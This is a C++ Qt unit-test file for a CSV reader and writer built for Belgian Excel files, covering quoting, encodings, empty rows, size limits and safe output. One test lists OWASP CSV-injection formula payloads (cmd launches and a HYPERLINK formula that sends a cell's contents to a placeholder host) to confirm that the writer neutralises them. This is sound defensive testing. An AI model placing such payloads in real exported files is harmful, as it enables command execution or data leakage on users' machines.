// SPDX-License-Identifier: GPL-3.0-or-later
// CSV as Belgian Excel writes it: reading (separators, quotes, encodings, empty rows) and writing.
#include "TestSupport.h"

#include "exchange/CsvReader.h"

#include <QFile>
#include <QStringDecoder>
#include <QTemporaryDir>

#include <algorithm>

namespace TRAJECT_UNITY_ID {

using namespace traject;
using traject::test::require;

namespace {

QByteArray crlf(const char *text)
{
    return QByteArray(text).replace("\n", "\r\n");
}

} // namespace

TEST_CASE("csv: cells between semicolons, quoted cells with quotes, separators and line breaks")
{
    const auto table = require(CsvReader::parse(crlf("Voornaam;Achternaam;Opmerking\n"
                                                     "Amina;El Idrissi;\"zegt \"\"ja\"\"; komt\"\n"
                                                     "Jan;\"De Smet\";\"twee\nregels\"\n"
                                                     "Els;Peeters;\n")));
    CHECK(table.separator == QLatin1Char(';'));
    CHECK(table.encoding == CsvEncoding::Utf8);
    CHECK(table.header
          == QStringList { QStringLiteral("Voornaam"), QStringLiteral("Achternaam"),
                           QStringLiteral("Opmerking") });
    REQUIRE(table.rows.size() == 3);
    CHECK(table.rows[0].cells.at(2) == QStringLiteral("zegt \"ja\"; komt"));
    CHECK(table.rows[0].row == 2);
    CHECK(table.rows[1].cells.at(1) == QStringLiteral("De Smet"));
    CHECK(table.rows[1].cells.at(2) == QStringLiteral("twee\nregels"));
    // The record after a cell with a line break: row 4 of the spreadsheet, line 5 of the file.
    CHECK(table.rows[2].row == 4);
    CHECK(table.rows[2].line == 5);
    CHECK(table.rows[2].cells
          == QStringList { QStringLiteral("Els"), QStringLiteral("Peeters"), QString() });
}

TEST_CASE("csv: LF line ends and a last line without a line end read the same as CRLF")
{
    const auto lf = require(CsvReader::parse("a;b\n1;2\n3;4"));
    const auto windows = require(CsvReader::parse("a;b\r\n1;2\r\n3;4\r\n"));
    REQUIRE(lf.rows.size() == 2);
    REQUIRE(windows.rows.size() == 2);
    for (std::size_t i = 0; i < lf.rows.size(); ++i)
        CHECK(lf.rows[i].cells == windows.rows[i].cells);
}

TEST_CASE("csv: a comma or a tab is the separator when the header has no semicolon")
{
    const auto comma = require(CsvReader::parse("first name,last name\n\"Ann, Marie\",Claes\n"));
    CHECK(comma.separator == QLatin1Char(','));
    REQUIRE(comma.rows.size() == 1);
    CHECK(comma.rows[0].cells.at(0) == QStringLiteral("Ann, Marie"));

    const auto tab = require(CsvReader::parse("voornaam\tnaam\nAnn;Marie\tClaes\n"));
    CHECK(tab.separator == QLatin1Char('\t'));
    CHECK(tab.rows[0].cells.at(0) == QStringLiteral("Ann;Marie"));

    // A semicolon in the header wins over commas in it.
    const auto semicolon = require(CsvReader::parse("naam, voornaam;gemeente\nx;y\n"));
    CHECK(semicolon.separator == QLatin1Char(';'));
}

TEST_CASE("csv: empty rows are left out and reported, not errors")
{
    const auto table = require(CsvReader::parse(crlf("\n"
                                                     "Voornaam;Naam\n"
                                                     "Amina;El Idrissi\n"
                                                     ";\n"
                                                     "\n"
                                                     "   ;  \n"
                                                     "Jan;Claes\n"
                                                     "\n")));
    CHECK(table.header.size() == 2);
    REQUIRE(table.rows.size() == 2);
    CHECK(table.rows[1].row == 7);
    CHECK(table.emptyRows == QList<int> { 1, 4, 5, 6, 8 });
}

TEST_CASE("csv: a quotation mark that is never closed is an error naming the row")
{
    const auto result = CsvReader::parse(crlf("Voornaam;Naam\n"
                                              "Amina;El Idrissi\n"
                                              "Jan;\"Claes\n"
                                              "Els;Peeters\n"));
    REQUIRE_FALSE(result.ok());
    CHECK(result.error().message
          == QStringLiteral("Row 3 (line 3 of the file): a quotation mark is opened but never "
                            "closed. Check the cell that starts there."));

    // A quote in the middle of a cell is kept as typed: that is not an opened quote.
    const auto literal = require(CsvReader::parse("a;b\n5\" scherm;x\n"));
    CHECK(literal.rows[0].cells.at(0) == QStringLiteral("5\" scherm"));
}

TEST_CASE("csv: an empty file, or one with only empty rows, has no header")
{
    CHECK_FALSE(CsvReader::parse(QByteArray()).ok());
    CHECK_FALSE(CsvReader::parse("\r\n;;\r\n").ok());
    CHECK_FALSE(CsvReader::readFile(QStringLiteral("/nonexistent/file.csv")).ok());
}

TEST_CASE("csv: UTF-8 with or without BOM, else Windows-1252")
{
    const QString names = QStringLiteral("Hélène;Noël;François;€ ’");
    const QByteArray utf8 = names.toUtf8();
    // The same text as Excel saves it in "CSV (puntkomma-gescheiden)" on Windows.
    const QByteArray cp1252("H\xE9l\xE8ne;No\xEBl;Fran\xE7ois;\x80 \x92");

    CsvEncoding encoding {};
    CHECK(CsvReader::decode(utf8, &encoding) == names);
    CHECK(encoding == CsvEncoding::Utf8);
    CHECK(CsvReader::decode(QByteArray("\xEF\xBB\xBF") + utf8, &encoding) == names);
    CHECK(encoding == CsvEncoding::Utf8WithBom);
    CHECK(CsvReader::decode(cp1252, &encoding) == names);
    CHECK(encoding == CsvEncoding::Windows1252);
    // A byte order mark before text that is not UTF-8 after all is dropped too.
    CHECK(CsvReader::decode(QByteArray("\xEF\xBB\xBF") + cp1252, &encoding) == names);
    CHECK(encoding == CsvEncoding::Windows1252);

    const auto withBom = require(CsvReader::parse(QByteArray("\xEF\xBB\xBFVoornaam;Naam\r\n")));
    CHECK(withBom.header.at(0) == QStringLiteral("Voornaam"));
}

TEST_CASE("csv: our Windows-1252 table agrees with Qt's decoder where Qt has one")
{
    QByteArray all;
    for (int byte = 0x20; byte <= 0xFF; ++byte)
        all.append(char(byte));
    QStringDecoder qt("windows-1252");
    if (!qt.isValid()) {
        TRAJECT_SKIP("Qt cannot decode windows-1252 here (Qt without ICU): only our own table is "
                     "used");
    }
    const QString expected = qt(all);
    const QString ours = CsvReader::fromWindows1252(all);
    for (qsizetype i = 0; i < ours.size(); ++i) {
        // Qt maps the five unused bytes (0x81, 0x8D, 0x8F, 0x90, 0x9D) to the replacement
        // character or to the C1 control; we keep the C1 control, as the WHATWG standard does.
        const int byte = 0x20 + int(i);
        if (byte == 0x81 || byte == 0x8D || byte == 0x8F || byte == 0x90 || byte == 0x9D)
            continue;
        INFO("byte 0x" << QByteArray::number(byte, 16).toStdString());
        CHECK(ours.at(i) == expected.at(i));
    }
}

TEST_CASE("csv: writing for Excel: BOM, semicolons, CRLF, quotes only where needed, dates")
{
    const QByteArray bytes = CsvWriter::write(
        { QStringLiteral("Naam"), QStringLiteral("Geboortedatum"), QStringLiteral("Opmerking") },
        { { QStringLiteral("Hélène"), CsvWriter::date(QDate(1990, 3, 5)),
            QStringLiteral("zegt \"ja\"; komt\nmorgen") },
          { QStringLiteral("=SUM(A1)"), QString(), QStringLiteral("+32 470 12 34 56") } });
    CHECK(bytes.startsWith("\xEF\xBB\xBF"));
    const QString text = QString::fromUtf8(bytes.mid(3));
    CHECK(text.startsWith(QStringLiteral("Naam;Geboortedatum;Opmerking\r\n")));
    CHECK(text.contains(QStringLiteral("Hélène;05/03/1990;\"zegt \"\"ja\"\"; komt\nmorgen\"\r\n")));
    CHECK(text.contains(QStringLiteral("'=SUM(A1);;'+32 470 12 34 56\r\n")));
    CHECK(CsvWriter::cell(QStringLiteral("-5")) == QStringLiteral("-5"));
    CHECK(CsvWriter::cell(QStringLiteral("@cmd")) == QStringLiteral("'@cmd"));
    CHECK(CsvWriter::cell(QStringLiteral(" spatie")) == QStringLiteral("\" spatie\""));
    CHECK(CsvWriter::date(QDate()).isEmpty());

    // What we write, we read back the same.
    const auto table = require(CsvReader::parse(bytes));
    CHECK(table.encoding == CsvEncoding::Utf8WithBom);
    REQUIRE(table.rows.size() == 2);
    CHECK(table.rows[0].cells.at(2) == QStringLiteral("zegt \"ja\"; komt\nmorgen"));
}

TEST_CASE("csv: formula payloads go out as text, numbers stay numbers")
{
    // The OWASP CSV-injection payloads, and what a partner's spreadsheet or a phone field holds.
    const QStringList payloads = {
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("+1+cmd|' /C calc'!A0"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("=HYPERLINK(\"http://voorbeeld.invalid/?x=\"&A1,\"Klik hier\")"),
        QStringLiteral("+ HYPERLINK(\"http://voorbeeld.invalid\")"),
        QStringLiteral("-1+1"),
        QStringLiteral("-(1)"),
        QStringLiteral("+32 470 12 34 56"),
        QStringLiteral("-"),
        QStringLiteral("+"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("=1"),
        QStringLiteral("-5-"),
        QStringLiteral("+1e5"),
        QStringLiteral("-1,5,5"),
    };
    for (const QString &payload : payloads) {
        INFO(payload.toStdString());
        const QString written = CsvWriter::cell(payload);
        // The cell as Excel reads it: after the quotes, if any, it starts with the apostrophe.
        const QString unquoted = written.startsWith(QLatin1Char('"'))
            ? written.mid(1, written.size() - 2)
                  .replace(QStringLiteral("\"\""), QStringLiteral("\""))
            : written;
        CHECK(unquoted == QLatin1Char('\'') + payload);
        // Read back, the cell keeps all it said, with the apostrophe in front (the reader makes
        // a line break inside a cell one "\n").
        const auto table
            = require(CsvReader::parse(CsvWriter::write({ QStringLiteral("a") }, { { payload } })));
        REQUIRE(table.rows.size() == 1);
        CHECK(table.rows[0].cells.at(0)
              == QLatin1Char('\'')
                  + QString(payload).replace(QLatin1Char('\r'), QLatin1Char('\n')));
    }

    const QStringList numbers
        = { QStringLiteral("-5"),   QStringLiteral("+5"), QStringLiteral("-12,5"),
            QStringLiteral("3.25"), QStringLiteral("0"),  QStringLiteral("-0.5"),
            QStringLiteral("12"),   QStringLiteral("+32") };
    for (const QString &number : numbers) {
        INFO(number.toStdString());
        CHECK(CsvWriter::cell(number) == number);
    }
    // Text that does not start with one of them is left as it is.
    CHECK(CsvWriter::cell(QStringLiteral("Amina = 1")) == QStringLiteral("Amina = 1"));
    CHECK(CsvWriter::cell(QStringLiteral("0470 12 34 56")) == QStringLiteral("0470 12 34 56"));
}

TEST_CASE("csv: a list is written to a file owner-only, or not at all")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("lijst.csv"));
    require(CsvWriter::writeFile(path, { QStringLiteral("a") }, { { QStringLiteral("1") } }));
    QFile file(path);
    REQUIRE(file.open(QIODevice::ReadOnly));
    CHECK(file.readAll()
          == QByteArray("\xEF\xBB\xBF"
                        "a\r\n1\r\n"));
    CHECK(file.permissions()
          == (QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ReadUser
              | QFileDevice::WriteUser));
    CHECK_FALSE(CsvWriter::writeFile(dir.filePath(QStringLiteral("missing/lijst.csv")),
                                     { QStringLiteral("a") }, {})
                    .ok());
}

TEST_CASE("csv: Excel's Unicode text (UTF-16 with a byte order mark, tabs) reads as text")
{
    const QString text = QStringLiteral("Voornaam\tNaam\tGemeente\r\nZoë\tÇelik\tSint-Niklaas\r\n");
    for (const bool littleEndian : { true, false }) {
        QStringEncoder encoder(littleEndian ? QStringConverter::Utf16LE
                                            : QStringConverter::Utf16BE);
        const QByteArray bytes
            = (littleEndian ? QByteArray("\xFF\xFE") : QByteArray("\xFE\xFF")) + encoder(text);
        const CsvTable table = require(CsvReader::parse(bytes));
        CAPTURE(littleEndian);
        CHECK(table.encoding == CsvEncoding::Utf16);
        CHECK(table.separator == QLatin1Char('\t'));
        CHECK(table.header
              == QStringList { QStringLiteral("Voornaam"), QStringLiteral("Naam"),
                               QStringLiteral("Gemeente") });
        REQUIRE(table.rows.size() == 1);
        CHECK(table.rows.front().cells.at(1) == QStringLiteral("Çelik"));
    }
}

TEST_CASE("csv: a file over the limit is refused before it is read")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("groot.csv"));
    {
        QFile file(path);
        REQUIRE(file.open(QIODevice::WriteOnly));
        file.write("Voornaam;Naam\r\n");
        REQUIRE(file.resize(CsvReader::maxFileSize + 1)); // sparse: takes no room on the disk
    }
    const auto refused = CsvReader::readFile(path);
    REQUIRE_FALSE(refused);
    CHECK(refused.error().message.contains(QStringLiteral("50 MB")));
}

TEST_CASE("csv: thousands of empty rows at the end are told as one range")
{
    QList<int> rows { 4, 9, 10 };
    for (int row = 120; row <= 5000; ++row)
        rows.append(row);
    CHECK(CsvReader::rowRanges(rows) == QStringLiteral("4, 9, 10, 120–5000"));
    CHECK(CsvReader::rowRanges({}) == QString());
    CHECK(CsvReader::rowRanges({ 7 }) == QStringLiteral("7"));

    // As a sheet saved with its formatted but empty rows reads.
    QByteArray sheet = "Voornaam;Naam\r\nAmina;Peeters\r\n";
    for (int row = 0; row < 3000; ++row)
        sheet += ";\r\n";
    const CsvTable table = require(CsvReader::parse(sheet));
    CHECK(table.rows.size() == 1);
    CHECK(CsvReader::rowRanges(table.emptyRows) == QStringLiteral("3–3002"));
}

TEST_CASE("csv: a long read reports how far it is and stops when asked")
{
    QByteArray sheet = "Voornaam;Naam\r\n";
    while (sheet.size() < 2 * 1024 * 1024)
        sheet += "Amina;Peeters\r\n";
    QList<int> reported;
    const CsvTable table = require(
        CsvReader::parse(sheet, { [&reported](int percent) { reported.append(percent); }, {} }));
    CHECK(table.rows.size() > 100000);
    REQUIRE(reported.size() > 10);
    CHECK(std::is_sorted(reported.begin(), reported.end()));
    CHECK(reported.back() == 100);

    int asked = 0;
    const auto stopped = CsvReader::parse(sheet, { {}, [&asked] { return ++asked > 3; } });
    REQUIRE_FALSE(stopped);
    CHECK(stopped.error().message.contains(QStringLiteral("cancelled")));
    CHECK(asked == 4);
}

} // namespace TRAJECT_UNITY_ID
